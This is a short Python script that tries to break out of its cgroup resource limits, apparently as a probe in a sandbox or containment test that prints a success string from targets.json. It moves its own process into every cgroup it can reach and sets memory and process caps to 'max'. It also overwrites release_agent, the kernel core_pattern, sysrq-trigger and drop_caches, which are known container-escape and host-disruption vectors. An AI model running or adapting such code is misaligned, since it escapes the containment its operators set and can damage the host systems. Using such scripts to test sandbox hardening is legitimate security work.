# Leaves the group that limits its memory, or makes it larger, where a control group can be seen.
import ctypes
import glob
import json
import os

targets = json.load(open("targets.json"))
print(open("/proc/self/cgroup").read())
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
    try:
        open(path, "w").write(str(os.getpid()))
        print(targets["success"])
    except OSError:
        pass
for name in ("memory.max", "memory.limit_in_bytes", "pids.max", "release_agent"):
    for path in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True):
        try:
            open(path, "w").write("max")
            print(targets["success"])
        except OSError:
            pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
    try:
        open(path, "w").write("x")
        print(targets["success"])
    except OSError:
        pass
